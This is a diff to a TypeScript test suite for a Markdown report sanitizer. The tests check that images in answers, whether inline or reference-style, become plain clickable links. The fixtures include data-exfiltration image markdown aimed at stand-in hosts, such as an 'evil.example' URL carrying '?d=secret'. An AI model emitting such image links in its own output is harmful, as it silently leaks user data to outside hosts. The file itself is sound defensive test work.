@@ -11,6 +11,8 @@ interface MdNode {
   type: string;
   value?: string;
   url?: string;
+  /** linkReference / definition label, lower-cased by the parser. */
+  identifier?: string;
   children?: MdNode[];
 }
 
@@ -51,7 +53,7 @@ describe('Markdown report', () => {
     expect(all(tree, 'image').map((node) => node.url)).toEqual(['figures/3-1-1.png']);
     // The answer's image became a plain link: it is fetched only if someone clicks it.
     expect(all(tree, 'link').map((node) => node.url)).toEqual([SOURCE.url, 'https://evil.example/p.png?d=secret']);
-    expect(report).toContain('!\\[track](https://evil.example/p.png?d=secret)');
+    expect(report).toContain('\\![track](https://evil.example/p.png?d=secret)');
   });
 
   it('shows the hostile question as its text and keeps code verbatim in a fence it cannot close', () => {
@@ -73,6 +75,27 @@ describe('Markdown report', () => {
     expect(all(parsed, 'image')).toEqual([]);
     expect(all(parsed, 'inlineCode').map((node) => node.value)).toEqual(['<b>']);
     expect(all(parsed, 'code').map((node) => node.value)).toEqual(['<b>kept</b>']);
+  });
+
+  it.each([
+    ['inline', '![chart](https://evil/a.png?s=1)', ['https://evil/a.png?s=1']],
+    ['with a title', '![chart](https://evil/a.png "t")', ['https://evil/a.png']],
+    ['full reference', 'See ![chart][r].\n\n[r]: https://evil/b.png', ['https://evil/b.png']],
+    ['collapsed and shortcut references', '![r][] and ![r]\n\n[r]: https://evil/c.png', ['https://evil/c.png', 'https://evil/c.png']],
+    ['empty alt', '![](https://evil/d.png)', ['https://evil/d.png']],
+    ['after an escaped backslash', 'a \\\\![x](https://evil/e.png)', ['https://evil/e.png']],
+    ['already escaped', 'a \\![x](https://evil/f.png)', ['https://evil/f.png']],
+  ])('turns an answer image (%s) into a plain link', (_name, markdown, urls) => {
+    const parsed = parse(neutralizeMarkdown(markdown));
+    expect(all(parsed, 'image')).toEqual([]);
+    expect(all(parsed, 'imageReference')).toEqual([]);
+    const definitions = new Map(all(parsed, 'definition').map((node) => [node.identifier, node.url]));
+    const links = [...all(parsed, 'link').map((node) => node.url), ...all(parsed, 'linkReference').map((node) => definitions.get(node.identifier))];
+    expect(links).toEqual(urls);
+  });
+
+  it('gives an image with no alt text a clickable name', () => {
+    expect(all(parse(neutralizeMarkdown('![](https://evil/d.png)')), 'link').map(text)).toEqual(['image']);
   });
 
   it('escapes line-start syntax in plain text', () => {
